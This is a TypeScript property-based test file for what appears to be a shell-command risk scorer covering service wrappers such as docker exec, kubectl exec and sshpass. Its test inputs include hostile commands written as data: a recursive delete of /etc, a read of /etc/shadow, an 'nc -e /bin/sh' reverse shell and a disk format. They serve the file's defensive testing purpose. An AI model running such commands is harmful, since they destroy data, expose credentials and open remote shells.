import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { assessRisk } from '../../../../src/risk/assess-risk.js';
import { servicesTools } from '../../../../src/shell/catalogue/services.js';
import { compileUsage } from '../../../../src/shell/options/compile-usage.js';
import { analyse } from '../../../../src/shell/understand.js';
import { floodedTools } from '../../../fixtures/shell/flooded-code.js';

const names = servicesTools.flatMap((tool) => tool.names.split(' '));
const subcommands = servicesTools.flatMap((tool) => Object.keys(tool.subcommands ?? {}));
const options = servicesTools.flatMap((tool) => compileUsage(tool).options.flatMap((option) => option.names));
const word = fc.oneof(
  fc.constantFrom(...options),
  fc.constantFrom(...subcommands),
  fc.constantFrom(
    '--',
    '-',
    'a',
    'h:a',
    '/etc/shadow',
    'https://h.example/x',
    'delete',
    'x=y',
    '"$x"',
    "'drop table t'",
  ),
  fc.string({ maxLength: 12 }).map((text) => `'${text.replaceAll("'", '')}'`),
);
const command = fc
  .tuple(fc.constantFrom(...names), fc.array(word, { maxLength: 8 }))
  .map(([name, words]) => [name, ...words].join(' '));

function score(line: string): number {
  return assessRisk(analyse(line)).score ?? 0;
}

describe('laws of the tools for services', () => {
  it('takes any words', () => {
    fc.assert(
      fc.property(command, (line) => {
        expect(score(line)).toBeLessThanOrEqual(1);
      }),
      { numRuns: 2000 },
    );
  });

  it('is no less risky behind another command', () => {
    fc.assert(
      fc.property(command, command, (one, other) => {
        expect(score(`${one}; ${other}`)).toBeGreaterThanOrEqual(Math.max(score(one), score(other)) - 1e-9);
      }),
      { numRuns: 300 },
    );
  });

  it.each([
    'docker exec web',
    'kubectl exec web --',
    'lxc exec web --',
    'poetry run',
    'bundle exec',
    'sshpass -e',
    'ssh-agent',
  ])('is no less risky within %s', (wrapper) => {
    for (const line of ['rm -rf /etc', 'cat /etc/shadow', 'nc -e /bin/sh 10.0.0.1 1', 'mkfs.ext4 /dev/sda1']) {
      expect(score(`${wrapper} ${line}`)).toBeGreaterThanOrEqual(score(line) - 1e-9);
    }
  });

  it.each(floodedTools())('is answered, whatever a word repeats', { timeout: 60_000 }, (line) => {
    expect(score(line)).toBeLessThanOrEqual(1);
  });
});
